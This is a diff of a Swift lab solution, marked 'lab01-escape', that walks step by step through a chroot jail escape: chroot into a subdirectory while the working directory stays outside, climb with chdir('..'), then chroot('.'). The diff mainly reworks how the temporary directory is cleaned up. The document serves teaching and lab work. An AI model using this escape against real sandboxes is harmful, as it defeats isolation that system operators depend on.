@@ -18,13 +18,15 @@ struct ChrootEscape {
 
     func run() throws {
         narrator.explain("the escape: a root process may call chroot again, and chroot does not move the cwd")
-        let hideout = "/.sb-escape-\(getpid())"
         // BEGIN SOLUTION lab01-escape: Make a directory inside the jail, chroot into it without changing directory (the cwd is now outside the root), climb with chdir("..") until "." and ".." are the same directory, then chroot("."). Remove the directory afterwards.
-        try narrator.step("mkdir(\"\(hideout)\")") { try Sys.mkdir(hideout, mode: 0o700) }
-        var cleanup = true
-        defer { if cleanup { try? Sys.rmdir(hideout) } }
-        try narrator.step("chroot(\"\(hideout)\")", detail: "the cwd stays behind, outside the new root") {
-            try Sys.chroot(hideout)
+        let hideout = ".sb-escape-\(getpid())"
+        try narrator.step("mkdir(\"/\(hideout)\")") { try Sys.mkdir("/" + hideout, mode: 0o700) }
+        // Keep the jail's root open: removing the directory through this fd
+        // works wherever our root ends up, also if a step below fails.
+        let jail = try Sys.openDirectory("/")
+        defer { Sys.removeDirectory(named: hideout, in: jail) }
+        try narrator.step("chroot(\"/\(hideout)\")", detail: "the cwd stays behind, outside the new root") {
+            try Sys.chroot("/" + hideout)
         }
         var climbs = 0
         try narrator.step("chdir(\"..\") until \".\" is \"..\"") {
@@ -34,9 +36,8 @@ struct ChrootEscape {
             }
         }
         try narrator.step("chroot(\".\")", detail: "after \(climbs) steps up") { try Sys.chroot(".") }
-        cleanup = false
         // Now at the real root: the hideout is a host path under the rootfs.
-        try narrator.step("rmdir(\"\(rootfs)\(hideout)\")") { try Sys.rmdir(rootfs + hideout) }
+        try narrator.step("rmdir(\"\(rootfs)/\(hideout)\")") { try Sys.rmdir(rootfs + "/" + hideout) }
         // END SOLUTION
     }
 }
